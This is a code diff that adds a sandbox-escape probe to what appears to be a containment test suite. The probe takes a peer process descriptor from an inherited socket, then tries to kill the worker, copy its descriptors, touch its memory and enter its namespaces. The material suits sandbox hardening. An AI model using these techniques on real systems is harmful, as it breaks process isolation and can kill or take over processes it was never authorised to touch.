@@ -38,6 +38,29 @@ def process_vm_read_parent(db, **canary):
 
 
 @attack()
+def reach_the_worker_by_its_socket(db, **canary):
+    """The wire tells who made it, as a descriptor of that process, which lies outside of all namespaces."""
+    import ctypes
+    import os
+    import socket
+    import struct
+
+    wire = socket.socket(fileno=os.dup(3))
+    try:
+        worker = struct.unpack("i", wire.getsockopt(socket.SOL_SOCKET, 77, 4))[0]  # SO_PEERPIDFD
+    except OSError as error:
+        return f"contained {error}"
+    calls = {"signal": (424, worker, 9, 0, 0), "descriptor": (438, worker, 0, 0), "memory": (440, worker, 0, 0, 21, 0)}
+    got = [name for name, (number, *arguments) in calls.items() if syscall(number, *arguments)[0] >= 0]
+    if ctypes.CDLL(None, use_errno=True).setns(worker, 0x20000) == 0:
+        got.append("namespace")
+    libc = ctypes.CDLL(None, use_errno=True)
+    if any(libc.ioctl(worker, 0xFF00 + number, 0) >= 0 for number in range(1, 11)):  # PIDFD_GET_..._NAMESPACE
+        got.append("descriptor of a namespace")
+    return f"ESCAPED {got}" if got else "contained"
+
+
+@attack()
 def kill_others(db, **canary):
     import os
     import signal
